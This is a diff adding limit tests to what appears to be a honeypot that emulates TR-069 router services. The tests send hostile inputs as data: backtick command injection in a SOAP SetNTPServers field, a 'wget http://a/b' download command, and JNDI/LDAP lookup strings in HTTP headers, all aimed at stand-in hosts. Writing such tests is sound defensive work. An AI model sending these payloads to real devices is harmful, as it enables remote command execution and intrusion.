@@ -4,8 +4,12 @@ from __future__ import annotations
 
 import pytest
 
+from eudaemon.events.catalogue import CommandEntered
 from eudaemon.protocols import load
 from eudaemon.protocols._front import Front
+from eudaemon.protocols._loot import URLS_MAX
+from eudaemon.protocols._pages import COMMAND_LINES_MAX
+from eudaemon.protocols._soap import BODY_BYTES_MAX
 from eudaemon.protocols.tr069 import Tr069
 from eudaemon.testing.script import Table, play, visit
 from eudaemon.world.host import Host
@@ -95,3 +99,23 @@ def test_it_shares_its_port_with_telnet() -> None:
         table.say(said)
         table.wait(3)
         assert front.answering == answering
+
+
+def called(argument: bytes) -> bytes:
+    body = b"<u:SetNTPServers><NewNTPServer1>%s</NewNTPServer1></u:SetNTPServers>" % argument
+    return b"POST / HTTP/1.0\r\nSOAPAction: a:b#SetNTPServers\r\nContent-Length: %d\r\n\r\n" % len(body) + body
+
+
+@pytest.mark.parametrize("past", [0, 1])
+def test_limits(past: int) -> None:
+    table = talk()
+    table.say(called(b"`" + b"\n".join([b"id"] * (COMMAND_LINES_MAX + past)) + b"`"))
+    assert table.facts.count(CommandEntered("id")) == COMMAND_LINES_MAX
+    table = talk()
+    begins, tail = len(b"<u:SetNTPServers><NewNTPServer1>"), b"</a><b>`wget http://a/b`"
+    table.say(called(tail.rjust(BODY_BYTES_MAX - begins - len(b"</") + past)))
+    assert len(table.wishes) == 1 - past
+    table = talk()
+    lookups = b"".join(b"X: ${jndi:ldap://a/%d}\r\n" % number for number in range(URLS_MAX + past))
+    table.say(b"GET / HTTP/1.0\r\n" + lookups + b"\r\n")
+    assert len(table.wishes) == URLS_MAX
